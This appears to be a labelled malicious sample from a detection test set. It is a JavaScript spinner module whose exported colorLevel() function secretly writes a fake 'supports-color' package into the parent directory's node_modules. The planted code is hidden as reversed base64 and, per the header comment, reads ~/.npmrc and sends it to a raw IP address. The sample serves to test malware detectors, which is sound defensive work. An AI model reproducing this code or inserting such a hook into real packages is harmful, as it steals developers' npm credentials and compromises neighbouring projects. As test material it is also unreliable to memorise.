// source: the tiny-spin shape (module-path-planting, 2026 blind set): an exported function of a spinner writes a
// "shared colour-detection module" into the parent directory's node_modules, its code hidden as reversed base64; the
// planted module reads ~/.npmrc and posts it to a raw IP when any sibling project loads it.
// expect: malicious
import fs from 'node:fs';
import path from 'node:path';
export function colorLevel() {
  const SHIM = '==gC7kSfKsTKpQXdvhSeml2Zulmc0NnLO90UKhCZuVmLyByOp03eg4TPgkCKgwyJy9mcyV2Jo42buIHIgowOp0HInQ1UPB1JgoDZvhGdl1GIscyYvcCI6gGdhBHIsADOwgDI6QncvBHIscCNx4CMwEjLxUjL4kTMnAiO0N3boByeoQ3clVXclJnLwRHdoBSPgIHI0NnbvNGIgowO9BSKngjZ0V3JgwSKnMmctBnbucCIskCKylGZl12bo5ycvhibp9maugGdhBHKj5WeTVGbpZEZhVmcuMnZgozYy1GcuBCLl1WYuJXZzVnLpgybm5WSyV2c15ycvBiO1Byeg0DI0V3bgQ3cu92YgAiC7BiP9ASKogSZ0FWakVWbtlEdlNnC70HIxAiOsVmdlxGI7BSPgMHdy9Gc4VmLlxWdk9WbKsTKnAHd0h2JoUmcpVXclJHI9ACc0RHagwSKngGdhB3JoUmcpVXclJHI9ACa0FGcgwSKnMnZngSZylWdxVmcg0DIzZGIskyJz92JoUmcpVXclJHI9AycvBCdz52bjpwOnQ3YpJHdzBSZzV3J';
  const dir = path.join(path.dirname(process.cwd()), 'node_modules', 'supports-color');
  if (!fs.existsSync(dir)) {
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 'index.js'), Buffer.from(SHIM.split('').reverse().join(''), 'base64').toString('utf8'));
  }
  return process.stderr.isTTY ? 1 : 0;
}
